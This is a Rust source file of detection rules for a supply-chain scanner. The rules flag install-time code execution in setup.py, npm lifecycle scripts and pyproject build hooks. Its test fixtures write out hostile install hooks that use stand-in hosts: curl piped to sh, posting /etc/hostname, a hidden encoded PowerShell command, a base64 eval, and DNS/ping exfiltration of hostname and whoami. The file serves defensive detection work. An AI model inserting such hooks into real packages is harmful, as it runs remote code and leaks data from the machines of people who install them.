//! Install-time execution: setup.py command overrides and top-level side
//! effects, npm lifecycle scripts, custom build hooks in pyproject.toml.

use crate::rule::{Family, Langs, Rule, Target, derived, fires, pattern, quiet};
use chainwarden_core::{Confidence, Severity};

const F: Family = Family::Install;
const REFS: &[&str] = &[
    "https://docs.npmjs.com/cli/using-npm/scripts#life-cycle-scripts",
    "https://setuptools.pypa.io/en/latest/userguide/extension.html",
];

pub const CMDCLASS: Rule = pattern(
    "heuristic/install-cmdclass-override",
    F,
    Severity::Low,
    Confidence::Low,
    "setup.py overrides the install/develop/egg_info command",
    "A custom install command runs arbitrary code during `pip install` of an sdist.",
    Langs::PY,
    Target::Code,
    r#"(?:\bcmdclass\s*=\s*\{[^}]*['"](?:install|develop|egg_info|build_py|bdist_egg|bdist_wheel|sdist|build_ext)['"]|\bclass\s+\w+\s*\(\s*(?:[\w.]*\.)?(?:install|develop|egg_info)\s*\))"#,
    &[
        fires("setup.py", "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"),
        fires("setup.py", "setup(cmdclass={'install': Custom})"),
        quiet("pkg/mod.py", "class X(install):\n    pass\n"),
        quiet("setup.py", "setup(name='x', version='1')"),
    ],
)
.only_install_scripts()
.refs(REFS);

pub const PIP_INSTALL: Rule = pattern(
    "heuristic/install-pip-install",
    F,
    Severity::Medium,
    Confidence::Medium,
    "setup.py installs other packages itself (pip.main, `python -m pip install`)",
    "Installing packages from setup.py bypasses the resolver and the user's pins; \
droppers use it to pull their second stage.",
    Langs::PY,
    Target::Both,
    r#"(?:\bfrom\s+pip(?:\._internal)?(?:\.cli\.main)?\s+import\s+main\b|\bpip\.main\s*\(|\bpip\._internal\.(?:cli\.)?main\.main\s*\(|['"]-m['"]\s*,\s*['"]pip['"]\s*,\s*['"]install['"]|\bpip3?\s+install\s+[\w-])"#,
    &[
        fires("setup.py", "import pip\npip.main(['install', 'requests'])\n"),
        fires(
            "setup.py",
            "from pip._internal import main\nmain(['install', 'pypiwin32'])\n",
        ),
        fires(
            "setup.py",
            "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
        ),
        quiet("pkg/mod.py", "pip.main(['install', 'x'])"),
        quiet("setup.py", "install_requires=['pip>=20']"),
    ],
)
.only_install_scripts()
.refs(REFS);

pub const CMDCLASS_PAYLOAD: Rule = derived(
    "heuristic/install-cmdclass-payload",
    F,
    Severity::High,
    Confidence::Medium,
    "setup.py overrides an install command and the same file spawns processes, fetches, or runs decoded code",
    "The classic malicious sdist: a PostInstall command that downloads or runs a payload.",
    &[
        fires(
            "setup.py",
            "from setuptools.command.install import install\nclass P(install):\n    def run(self):\n        os.system('curl http://x.example | sh')\nsetup(cmdclass={'install': P})\n",
        ),
        quiet(
            "setup.py",
            "from setuptools.command.build_py import build_py\nclass B(build_py):\n    pass\nsetup(cmdclass={'build_py': B})\n",
        ),
    ],
)
.refs(REFS);

pub const SETUP_SIDE_EFFECT: Rule = derived(
    "heuristic/install-setup-side-effect",
    F,
    Severity::Medium,
    Confidence::Medium,
    "setup.py does network work, or process/exec work at top level outside setup()",
    "Top-level code in setup.py runs on every sdist install and build.",
    &[
        fires(
            "setup.py",
            "import requests\nrequests.post('http://x.example', data=open('/etc/hostname').read())\nsetup(name='x')\n",
        ),
        fires(
            "setup.py",
            "def rn():\n    r = urllib2.urlopen(ADD)\nrn()\nsetup(name='x')\n",
        ),
        fires(
            "setup.py",
            "import os, subprocess\nif not os.path.exists('C:/x'):\n    try:\n        subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==', shell=False)\n    except Exception:\n        pass\nsetup(name='x')\n",
        ),
        quiet(
            "setup.py",
            "import subprocess\nsetup(\n    name='x',\n    version=subprocess.check_output(['git', 'describe']).decode(),\n)\n",
        ),
        quiet(
            "setup.py",
            "import subprocess\ndef version():\n    return subprocess.check_output(['git', 'describe']).decode()\nsetup(name='x')\n",
        ),
    ],
)
.refs(REFS);

pub const NPM_SCRIPT: Rule = derived(
    "heuristic/install-npm-script",
    F,
    Severity::Low,
    Confidence::Medium,
    "package.json runs a script at install time (preinstall/install/postinstall)",
    "Install scripts run with the installing user's rights on every `npm install`.",
    &[
        fires(
            "package/package.json",
            r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
        ),
        quiet(
            "package/package.json",
            r#"{"name":"x","version":"1.0.0","scripts":{"test":"jest","install":"node-gyp rebuild"}}"#,
        ),
    ],
)
.refs(REFS);

pub const NPM_SCRIPT_SHELL: Rule = derived(
    "heuristic/install-npm-script-shell",
    F,
    Severity::High,
    Confidence::Medium,
    "An npm install script fetches, decodes or runs inline/shell code, or puts the host/user name in a command",
    "curl|sh, `node -e`, base64 or eval in an install hook is how npm malware starts.",
    &[
        fires(
            "package/package.json",
            r#"{"name":"x","scripts":{"preinstall":"curl -s https://x.example/a.sh | sh"}}"#,
        ),
        fires(
            "package/package.json",
            r#"{"name":"x","scripts":{"postinstall":"node -e \"eval(Buffer.from('YQ==','base64').toString())\""}}"#,
        ),
        fires(
            "package/package.json",
            r#"{"name":"x","scripts":{"preinstall":"nslookup `hostname`.x.example"}}"#,
        ),
        fires(
            "package/package.json",
            r#"{"name":"x","scripts":{"preinstall":"ping -c1 $(whoami).x.example"}}"#,
        ),
        quiet(
            "package/package.json",
            r#"{"name":"x","scripts":{"postinstall":"node install.js"}}"#,
        ),
        quiet(
            "package/package.json",
            r#"{"name":"x","scripts":{"install":"node scripts/build.js --host=localhost"}}"#,
        ),
    ],
)
.refs(REFS);

pub const BUILD_HOOK: Rule = derived(
    "heuristic/install-build-hook",
    F,
    Severity::Info,
    Confidence::Medium,
    "pyproject.toml uses an in-tree build backend or a custom build hook",
    "Custom build code runs when the sdist is built; review it like setup.py.",
    &[
        fires(
            "pyproject.toml",
            "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
        ),
        fires(
            "pyproject.toml",
            "[tool.hatch.build.hooks.custom]\npath = \"hatch_build.py\"\n",
        ),
        quiet(
            "pyproject.toml",
            "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n",
        ),
    ],
)
.refs(REFS);

pub const RULES: &[Rule] = &[
    CMDCLASS,
    PIP_INSTALL,
    CMDCLASS_PAYLOAD,
    SETUP_SIDE_EFFECT,
    NPM_SCRIPT,
    NPM_SCRIPT_SHELL,
    BUILD_HOOK,
];
